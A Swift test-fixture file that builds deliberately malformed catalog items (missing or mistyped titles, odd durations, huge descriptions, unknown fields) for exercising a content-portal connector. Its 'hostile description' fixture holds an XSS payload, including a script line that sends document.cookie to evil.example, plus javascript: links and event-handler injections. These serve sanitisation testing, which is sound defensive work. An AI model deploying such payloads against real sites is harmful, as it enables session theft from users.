import SimulatorSupport
import ConnectorKit

/// A typical flaw of catalog data, at a fixed position of the portal.
package struct AwkwardItem: Sendable {
    /// A short description of the flaw.
    package let name: String
    /// The position in the Library, from 0.
    package let position: Int
    let change: @Sendable (inout PortalItem) -> Void

    /// All awkward items, 13 positions apart, from position 7.
    package static let all = changes.enumerated().map { index, change in
        AwkwardItem(name: change.name, position: 7 + 13 * index, change: change.apply)
    }

    /// Returns the awkward item at a position.
    static func at(_ position: Int) -> AwkwardItem? {
        guard position >= 7, (position - 7) % 13 == 0 else { return nil }
        let index = (position - 7) / 13
        return index < all.count ? all[index] : nil
    }

    private static let changes: [(name: String, apply: @Sendable (inout PortalItem) -> Void)] = [
        ("title missing", { $0.title = nil }),
        ("title null", { $0.title = .null }),
        ("title a number", { $0.title = 2077 }),
        ("title blank", { $0.title = "   " }),
        ("integer id as gc_lo_id", { $0.idForm = .older }),
        ("integer id missing", { $0.idForm = .absent }),
        ("integer id of the other generation's kind", { $0.idForm = .swapped }),
        ("description null", { $0.description = .null }),
        ("description missing", { $0.description = nil }),
        ("topics null", { $0.topics = nil }),
        ("topics repeated and oddly spaced", { $0.topics = oddTopics }),
        ("unknown members", { $0.extra = unknownMembers }),
        ("hostile description", { $0.description = .text(hostileHTML) }),
        ("entities, emoji and right-to-left text", { $0.description = .text(manyScripts) }),
        ("description of 200 KB", { $0.description = .text(Descriptions.text(bytes: 200_000)) }),
        ("duration negative", { $0.duration = -15 }),
        ("duration a fraction", { $0.duration = 12.5 }),
        ("duration missing", { $0.duration = nil }),
        ("duration text", { $0.duration = "45 min" }),
        ("language missing", { $0.language = nil }),
        ("language null", { $0.language = .null }),
        ("language a name", { $0.language = "English (Australia)" }),
        ("image relative", { $0.image = "/totara/contentmarketplace/fixtures/image.jpg" }),
        ("image null", { $0.image = .null }),
        ("image missing", { $0.image = nil }),
        ("times as +0000", { $0.timeForm = .compact }),
        ("updated time unreadable", { $0.updatedText = "yesterday" }),
        ("type award", { $0.type = "award" }),
        ("state not told", { $0.hidesState = true }),
        ("title with markup and escapes", { $0.title = .text("R&D <b>\"Basics\"</b>\t\\ 1/2 \u{2028}🚀 é") }),
        ("an author without a name", { $0.authors = namelessAuthors }),
    ]

    private static let oddTopics: [PortalItem.Topic] = [
        .init(22, "  Leadership "), .init(22, "Leadership"), .init(922, "leadership"), .init(0, " "),
        .init(24, "Communication\u{A0}"),
    ]
    private static let unknownMembers: [JSONObject.Member] = [
        .init("x_ranking", ["score": 0.731, "buckets": [1, 2.5e3, -0.0, [], [:], .null]]),
        .init("id_", "not the id"), .init("", true), .init("title ", "not the title"),
        .init("core.title", ["title": "not the title either", "id": 1]),
    ]
    private static let hostileHTML = """
        <p onclick="steal()">Read <a href="javascript:alert(1)">this</a> and <a href=" JaVaScRiPt:x">that</a>.
        <script>document.location='https://evil.example/?c='+document.cookie</script>
        <img src=x onerror=alert(1)><svg/onload=alert(2)><iframe src="https://evil.example"></iframe>
        <style>body{display:none}</style><p>Unclosed <b>bold <i>both</b> wrong</i> <!-- <p>hidden</p>
        --><a href="https://www.example.com/ok">kept</a> &lt;script&gt;text&lt;/script&gt;
        """
    private static let manyScripts = """
        <p>Caf&eacute; &amp; cr&egrave;me &#8212; &#x1F600; 👩🏽‍💻 naïve ﬁ “quotes” &notanentity; &lt;b&gt;</p>\
        <p dir="rtl">مرحبا بالعالم — שלום עולם</p><p>日本語の説明文。 e\u{301}</p>
        """
    private static let namelessAuthors: [PortalItem.Author] = [
        .init(id: 40_001, first: "", last: "", name: .null),
        .init(id: 40_002, first: "Amara", last: "Abara", name: "  Amara  Abara "),
        .init(id: 40_002, first: "Amara", last: "Abara", name: "Amara  Abara"),
    ]
}
